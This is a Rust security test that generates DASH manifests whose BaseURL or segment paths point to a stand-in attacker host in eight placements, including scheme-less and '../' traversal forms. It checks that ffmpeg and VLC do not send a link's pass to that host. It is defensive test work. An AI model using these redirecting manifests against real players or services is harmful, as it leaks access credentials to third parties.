//! DASH manifests that a link opens, in players without scripts: their base URL has a pass.

use serde_json::json;
use testkit::attacks::AttackSite;

use super::{Case, DASH, Stage};

/// Manifests that lead to a foreign host, in each place that a base URL may stand.
fn manifests(site: &AttackSite<'_>) -> Vec<Case> {
    let evil = site.evil;
    let host = evil.trim_start_matches("http:");
    let mut cases = vec![];
    for (name, of_mpd, of_period, of_set, media) in [
        (
            "of the period",
            String::new(),
            format!("{evil}/"),
            String::new(),
            "s$Number$.m4s".to_owned(),
        ),
        (
            "of the set",
            String::new(),
            String::new(),
            format!("{evil}/"),
            "s$Number$.m4s".to_owned(),
        ),
        (
            "without a scheme",
            String::new(),
            format!("{host}/"),
            String::new(),
            "s$Number$.m4s".to_owned(),
        ),
        (
            "beside a relative one",
            "v/".to_owned(),
            format!("{evil}/"),
            "w/".to_owned(),
            "s$Number$.m4s".to_owned(),
        ),
        (
            "of the manifest",
            format!("{evil}/"),
            "v/".to_owned(),
            String::new(),
            "s$Number$.m4s".to_owned(),
        ),
        (
            "of segments",
            String::new(),
            String::new(),
            String::new(),
            format!("{evil}/s$Number$.m4s"),
        ),
        (
            "that wants a query",
            String::new(),
            format!("{evil}/?x="),
            "w/".to_owned(),
            "s$Number$.m4s".to_owned(),
        ),
        (
            "by dots",
            String::new(),
            format!("../../..{host}/"),
            String::new(),
            "s$Number$.m4s".to_owned(),
        ),
    ] {
        let base = |url: &str| match url {
            "" => String::new(),
            url => format!("<BaseURL>{url}</BaseURL>"),
        };
        let (of_mpd, of_period, of_set) = (base(&of_mpd), base(&of_period), base(&of_set));
        let text = format!(
            "<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" \
             mediaPresentationDuration=\"PT8S\" minBufferTime=\"PT2S\" \
             profiles=\"urn:mpeg:dash:profile:isoff-live:2011\">{of_mpd}<Period>{of_period}\
             <AdaptationSet mimeType=\"video/mp4\" contentType=\"video\">{of_set}\
             <SegmentTemplate media=\"{media}\" initialization=\"{}\" duration=\"4\" startNumber=\"1\"/>\
             <Representation id=\"1\" bandwidth=\"1000\" codecs=\"avc1.64001e\" width=\"640\" height=\"360\"/>\
             </AdaptationSet></Period></MPD>",
            media.replace("s$Number$", "i")
        );
        cases.push(Case {
            name: format!("a base URL {name}"),
            files: vec![("x.mpd".to_owned(), DASH.to_owned(), text.into_bytes())],
        });
    }
    cases
}

#[test]
fn neither_ffmpeg_nor_vlc_shows_another_host_the_pass_in_a_manifest() {
    let stage = Stage::new(manifests);
    for (name, path) in &stage.opened {
        let link = stage.link(name, path, &json!({}));
        let reply = stage.edge.get(&link[stage.edge.origin.len()..]);
        assert_eq!(reply.status, 200, "{name}");
        assert!(
            String::from_utf8_lossy(&reply.body).contains("<BaseURL>"),
            "{name}"
        );
    }
    let foreign = stage.play_without_scripts();
    assert!(
        foreign.len() >= 4,
        "the attacks were not tried: {foreign:?}"
    );
    let failed = stage.judge(foreign.into_iter().map(|sent| (String::new(), sent)));
    assert!(failed.is_empty(), "{}", failed.join("\n"));
}
